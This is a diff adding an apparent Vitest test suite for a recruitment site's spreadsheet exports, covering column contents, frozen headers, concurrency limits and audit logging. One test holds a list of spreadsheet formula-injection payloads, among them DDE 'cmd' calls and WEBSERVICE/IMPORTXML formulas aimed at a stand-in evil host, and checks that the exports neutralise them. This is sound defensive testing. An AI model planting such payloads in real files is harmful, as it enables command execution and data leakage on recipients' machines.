@@ -1,0 +1,248 @@
+import ExcelJS from 'exceljs';
+import { beforeAll, describe, expect, inject, test } from 'vitest';
+import { adminToken, application, call, form } from './support/client';
+import { pdf } from './support/files';
+
+let token: string;
+beforeAll(async () => {
+  token = await adminToken();
+});
+
+const { url } = inject('product');
+const get = (path: string) => fetch(`${url}/api${path}`, { headers: { Authorization: `Bearer ${token}` } });
+
+async function open(path: string): Promise<ExcelJS.Workbook> {
+  const answer = await get(path);
+  expect(answer.status).toBe(200);
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(await answer.arrayBuffer());
+  return workbook;
+}
+
+/** Rows of a sheet as objects, by the titles of its columns. */
+function rowsOf(workbook: ExcelJS.Workbook, name: string): Record<string, ExcelJS.CellValue>[] {
+  const sheet = workbook.getWorksheet(name);
+  if (!sheet) throw new Error(`There is no sheet called ${name}.`);
+  const titles = (sheet.getRow(1).values as string[]).slice(1);
+  return (sheet.getRows(2, Math.max(0, sheet.rowCount - 1)) ?? []).map((row) =>
+    Object.fromEntries(titles.map((title, index) => [title, row.getCell(index + 1).value ?? ''])),
+  );
+}
+
+/** What a spreadsheet or a CSV reader could take for more than a text. */
+const payloads = [
+  '=1+1',
+  '=cmd|"/C calc"!A0',
+  '=HYPERLINK("http://evil.example","x")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=DDE("cmd";"/C calc";"x")',
+  '=SUM(A1:A9)',
+  '=A1',
+  '==1',
+  '= 1',
+  '+1+1',
+  '+cmd|"/C calc"!A0',
+  '+SUM(1)',
+  '-1+1',
+  '-2+3+cmd|"/C calc"!A0',
+  '--1',
+  '@SUM(1+1)',
+  '@A1',
+  '@IF(1,2,3)',
+  '={1}',
+  '="a"&"b"',
+  "='Sheet'!A1",
+  '=[other.xlsx]Sheet!A1',
+  '=\u202E1',
+  '=RTD("x","","y")',
+  '=INDIRECT("A1")',
+  '=0x41',
+  '=_xlfn.WEBSERVICE("x")',
+  '-@=+1',
+  '+\t=1',
+];
+
+describe('applications.xlsx', () => {
+  test('is a spreadsheet of that name, kept by no cache', async () => {
+    const answer = await get('/word/generate-word/all');
+    await answer.arrayBuffer();
+    expect(Object.fromEntries(answer.headers)).toMatchObject({
+      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+      'content-disposition': 'attachment; filename="applications.xlsx"',
+      'cache-control': 'no-store',
+    });
+  });
+
+  test('has every field of an application, real dates, and the names of its documents', async () => {
+    const person = application({
+      github: 'https://github.com/x',
+      additionalData: 'Two\nlines',
+      followLinkedin: 'will-do',
+    });
+    const { body } = await call('POST', '/applicationform/apply', { raw: form(person, { resume: [pdf, 'cv.pdf'] }) });
+    const workbook = await open('/word/generate-word/all');
+    expect(workbook.worksheets.map(({ name }) => name)).toEqual(['Applications', 'Quick applications']);
+    const row = rowsOf(workbook, 'Applications').find(({ Mail }) => Mail === person.Mail);
+    expect(row).toEqual({
+      Reference: body.reference,
+      Received: new Date(body.receivedAt),
+      Status: 'received',
+      'Answer by': new Date(body.replyBy),
+      Name: person.Name,
+      Mail: person.Mail,
+      Mobile: person.mobile,
+      LinkedIn: person.linkedin,
+      Address: person.address,
+      University: person.university,
+      Year: person.year,
+      Branch: person.branch,
+      Domain: person.domain,
+      Introduction: person.introduction,
+      GitHub: 'https://github.com/x',
+      'Additional data': 'Two\nlines',
+      'Unpaid willingness': '',
+      'Follows on LinkedIn': 'will-do',
+      'Follows on Instagram': '',
+      Terms: 'accepted',
+      Resume: 'cv.pdf',
+      Certificates: '',
+    });
+  });
+
+  test('has a header row that stands still and filters down to the last row', async () => {
+    const workbook = await open('/word/generate-word/all');
+    for (const sheet of workbook.worksheets) {
+      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
+      const last = sheet.getRow(1).getCell(sheet.columnCount).address.replace(/\d+/, '');
+      expect(sheet.autoFilter).toBe(`A1:${last}${Math.max(1, sheet.rowCount)}`);
+    }
+  });
+
+  test(`keeps ${payloads.length} formulas in every field as text, with a quote before them`, async () => {
+    const mails: string[] = [];
+    for (const payload of payloads) {
+      const person = application({
+        Name: payload,
+        address: payload,
+        university: payload,
+        branch: payload,
+        introduction: payload,
+        additionalData: payload,
+      });
+      mails.push(person.Mail ?? '');
+      const raw = form(person, { resume: [pdf, `${payload.replace(/[\\/"\t]/g, '')}.pdf`] });
+      const { status, body } = await call('POST', '/applicationform/apply', { raw });
+      // A tab is no part of one line of text: it is refused before it could do harm.
+      expect([payload, status, body]).toEqual([payload, payload.includes('\t') ? 400 : 201, expect.anything()]);
+      await call('POST', '/applications/fillup', {
+        json: { Name: payload, Mail: person.Mail, Phone: '+91 1234567', College: payload, Role: payload },
+      });
+    }
+    const workbook = await open('/word/generate-word/all');
+    for (const name of ['Applications', 'Quick applications']) {
+      const mine = rowsOf(workbook, name).filter(({ Mail }) => mails.includes(String(Mail)));
+      expect(mine.length).toBeGreaterThanOrEqual(payloads.length - 1);
+      for (const row of mine) {
+        for (const [title, value] of Object.entries(row)) {
+          // A formula or a link would be an object here.
+          if (!(value instanceof Date)) expect([title, typeof value]).toEqual([title, 'string']);
+          if (!['Mobile', 'Phone'].includes(title)) expect(String(value)).not.toMatch(/^[=+\-@\t\r]/);
+        }
+      }
+      const written = mine.map((row) => String(row.Name).replace(/^'/, ''));
+      for (const payload of payloads.filter((text) => !text.includes('\t'))) expect(written).toContain(payload);
+    }
+  });
+
+  test('is written one at a time: a second one is told to wait, and works afterwards', async () => {
+    const answers = await Promise.all([1, 2, 3].map(() => get('/word/generate-word/all')));
+    const statuses = answers.map(({ status }) => status).sort();
+    for (const answer of answers) {
+      const body = await answer.arrayBuffer();
+      if (answer.status !== 429) continue;
+      expect(Number(answer.headers.get('retry-after'))).toBeGreaterThan(0);
+      expect(JSON.parse(Buffer.from(body).toString())).toEqual({
+        success: false,
+        message: 'Another export is running. Please try again in a moment.',
+      });
+    }
+    expect([statuses[0], statuses[2]]).toEqual([200, 429]);
+    await open('/word/generate-word/all');
+  });
+
+  test('lets go when the reader has gone away in the middle', async () => {
+    const controller = new AbortController();
+    const answer = await fetch(`${url}/api/word/generate-word/all`, {
+      headers: { Authorization: `Bearer ${token}` },
+      signal: controller.signal,
+    });
+    expect(answer.status).toBe(200);
+    controller.abort();
+    const next = async () => {
+      const { status, ...answer } = await call('GET', '/Export/GetEmailList', { token });
+      expect(answer.body).toBeTruthy();
+      return status;
+    };
+    await expect.poll(next, { timeout: 5000 }).toBe(200);
+  });
+});
+
+describe('EmailList.xlsx', () => {
+  test('has each address once, from all three sources, with the first time it was seen; the team is not in it', async () => {
+    const stem = `list-${Date.now()}`;
+    const all = `${stem}-all@example.org`;
+    const quick = `${stem}-quick@example.org`;
+    const account = `${stem}-account@example.org`;
+    const before = Date.now();
+    const fill = (Mail: string, Name: string) =>
+      call('POST', '/applications/fillup', { json: { Name, Mail, Phone: '+91 11111 11111', College: 'c' } });
+    await fill(all.toUpperCase(), 'Quick Name');
+    const seen = Date.now();
+    for (const [email, name] of [
+      [all, 'Account Name'],
+      [account, 'Only Account'],
+    ]) {
+      await call('POST', '/register', { json: { name, email, password: 'a good password' } });
+    }
+    await call('POST', '/applicationform/apply', { raw: form(application({ Mail: all, Name: 'Full Name' })) });
+    await fill(quick, 'First');
+    await fill(quick, 'Second');
+
+    const workbook = await open('/Export/GetEmailList');
+    expect(workbook.worksheets.map(({ name }) => name)).toEqual(['E-mail list']);
+    const rows = rowsOf(workbook, 'E-mail list');
+    const mine = rows.filter(({ Email }) => String(Email).startsWith(stem));
+    expect(mine.sort((a, b) => String(a.Email).localeCompare(String(b.Email)))).toEqual([
+      { Name: 'Only Account', Email: account, Phone: '', Sources: 'Account', 'First seen': expect.any(Date) },
+      {
+        Name: 'Full Name',
+        Email: all,
+        Phone: '+91 90000 00000',
+        Sources: 'Full application, Quick application, Account',
+        'First seen': expect.any(Date),
+      },
+      {
+        Name: 'Second',
+        Email: quick,
+        Phone: '+91 11111 11111',
+        Sources: 'Quick application',
+        'First seen': expect.any(Date),
+      },
+    ]);
+    const first = mine.find(({ Email }) => Email === all)?.['First seen'] as Date;
+    expect(first.getTime()).toBeGreaterThanOrEqual(before - 1000);
+    expect(first.getTime()).toBeLessThanOrEqual(seen + 1000);
+    expect(new Set(rows.map(({ Email }) => Email)).size).toBe(rows.length);
+    expect(rows.map(({ Email }) => Email)).not.toContain('admin@example.org');
+
+    const { emails } = (await call('GET', '/admin/summary', { token })).body.data;
+    expect(emails).toBe(rows.length);
+  });
+
+  test('is written down, as every spreadsheet', async () => {
+    await (await get('/Export/GetEmailList')).arrayBuffer();
+    const { data } = (await call('GET', '/admin/audit?action=exported&pageSize=1', { token })).body;
+    expect(data).toMatchObject([{ action: 'exported', name: 'EmailList.xlsx', by: 'siteadmin', place: 'dashboard' }]);
+  });
+});
